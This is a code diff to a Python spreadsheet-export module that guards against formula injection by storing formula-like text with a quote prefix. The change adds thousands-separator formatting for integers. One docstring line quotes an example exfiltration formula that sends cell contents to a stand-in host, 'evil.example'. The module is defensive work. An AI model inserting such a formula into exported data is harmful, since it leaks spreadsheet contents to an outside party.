@@ -5,7 +5,9 @@ and LibreOffice as a formula (CSV on opening, xlsx when the cell is edited): a u
 `=HYPERLINK("http://evil.example/?x="&B2,"…")` would leak the sheet or run a command. In xlsx
 such a cell is stored as a string with Excel's "quote prefix" (the text itself is intact); in
 CSV the value is prefixed with a single quote, the usual convention that Excel hides on display.
-Numbers, dates and empty cells are written as they are.
+Numbers, dates and empty cells are written as they are; whole numbers get the number format
+`#,##0`, so Excel and LibreOffice show them with the thousands separator of the reader's
+locale (columns of years or codes are named in `plain`).
 """
 
 from __future__ import annotations
@@ -20,7 +22,10 @@ from openpyxl.cell.cell import Cell, MergedCell
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.worksheet import Worksheet
 
+from coso.core.numbers import XLSX_INTEGER
+
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+INTEGER_FORMAT = XLSX_INTEGER
 
 
 def looks_like_formula(value: object) -> bool:
@@ -39,15 +44,21 @@ def protect_cell(cell: Cell | MergedCell) -> None:
         cell.quotePrefix = True
 
 
-def append_row(sheet: Worksheet, row: Sequence[object]) -> None:
-    """`sheet.append(row)`, with every text cell kept as text. The cells to protect are made
-    before the append (reading the row back after it costs a scan of the whole sheet per row:
-    quadratic, seconds for a few thousand rows)."""
+def append_row(sheet: Worksheet, row: Sequence[object], plain: Iterable[int] = ()) -> None:
+    """`sheet.append(row)`, with every text cell kept as text and every whole number (except in
+    the columns `plain`: years, codes) shown grouped by thousands. The cells are made before the
+    append (reading the row back after it costs a scan of the whole sheet per row: quadratic,
+    seconds for a few thousand rows)."""
     values: list[Any] = []
-    for value in row:
+    keep = set(plain)
+    for index, value in enumerate(row):
         if isinstance(value, str) and looks_like_formula(value):
             cell = Cell(sheet, row=1, column=1, value=value)  # placed by the append
             protect_cell(cell)
+            values.append(cell)
+        elif isinstance(value, int) and not isinstance(value, bool) and index not in keep:
+            cell = Cell(sheet, row=1, column=1, value=value)
+            cell.number_format = INTEGER_FORMAT
             values.append(cell)
         else:
             values.append(value)
@@ -68,8 +79,9 @@ class SheetWriter:
         self.sheet = self.book.create_sheet(title)
         return self.sheet
 
-    def append(self, row: Sequence[object]) -> None:
-        append_row(self.sheet, row)
+    def append(self, row: Sequence[object], plain: Iterable[int] = ()) -> None:
+        """One row; whole numbers grouped by thousands except in the columns `plain`."""
+        append_row(self.sheet, row, plain)
 
     def fit_columns(self, minimum: int = 10, maximum: int = 60) -> None:
         for index, column in enumerate(self.sheet.columns, start=1):
